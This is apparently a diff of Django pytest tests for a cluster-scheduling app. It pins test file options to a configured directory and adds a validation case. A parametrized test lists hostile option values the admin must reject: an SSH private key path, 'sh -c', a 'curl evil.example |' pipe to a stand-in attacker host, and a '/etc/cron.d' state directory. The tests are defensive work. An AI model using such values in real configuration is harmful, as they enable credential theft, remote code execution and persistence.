@@ -7,7 +7,8 @@ from scheduling.models import Cluster, Node
 
 
 @pytest.mark.django_db
-def test_register_discovers_nodes_and_prints_the_total(tmp_path, capsys):
+def test_register_discovers_nodes_and_prints_the_total(tmp_path, capsys, settings):
+    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
     call_command(
         "register_cluster",
         "mars",
@@ -29,7 +30,8 @@ def test_register_discovers_nodes_and_prints_the_total(tmp_path, capsys):
 
 
 @pytest.mark.django_db
-def test_rediscovery_drains_a_node_that_disappeared(tmp_path, capsys):
+def test_rediscovery_drains_a_node_that_disappeared(tmp_path, capsys, settings):
+    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
     args = [
         "register_cluster",
         "mars",
@@ -73,10 +75,11 @@ def admin_add(admin_client, options: str, **extra):
 
 @pytest.mark.django_db
 def test_registering_in_the_admin_discovers_the_nodes_in_a_worker_not_the_web_process(
-    admin_client, tmp_path, monkeypatch, django_capture_on_commit_callbacks
+    admin_client, tmp_path, monkeypatch, django_capture_on_commit_callbacks, settings
 ):
     from scheduling.backends.simulated import SimulatedBackend
 
+    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
     calls = []
     discover = SimulatedBackend.discover_nodes
     monkeypatch.setattr(
@@ -106,10 +109,12 @@ def test_discovery_runs_with_a_time_limit():
 
 @pytest.mark.django_db
 def test_a_discovery_that_fails_in_the_worker_is_shown_on_the_cluster(
-    admin_client, tmp_path, monkeypatch, django_capture_on_commit_callbacks
+    admin_client, tmp_path, monkeypatch, django_capture_on_commit_callbacks, settings
 ):
     from scheduling.backends.base import BackendUnavailable
     from scheduling.backends.simulated import SimulatedBackend
+
+    settings.ALLOT_CLUSTER_FILES_DIR = str(tmp_path)
 
     def silent(self):
         raise BackendUnavailable("simulated: does not answer")
@@ -140,6 +145,7 @@ def test_the_admin_refuses_options_the_backend_cannot_parse(admin_client, tmp_pa
         ("slurm", {"slurm_conf": "/root/.ssh/id_rsa"}, "slurm_conf must be a file"),
         ("slurm", {"command_prefix": "sh -c"}, "command_prefix must be an ssh command"),
         ("slurm", {"command_prefix": "curl evil.example |"}, "command_prefix must be an ssh"),
+        ("simulated", {"state_dir": "/etc/cron.d"}, "state_dir must be a directory inside"),
     ],
 )
 def test_file_options_stay_inside_the_configured_directory_and_prefixes_are_ssh(
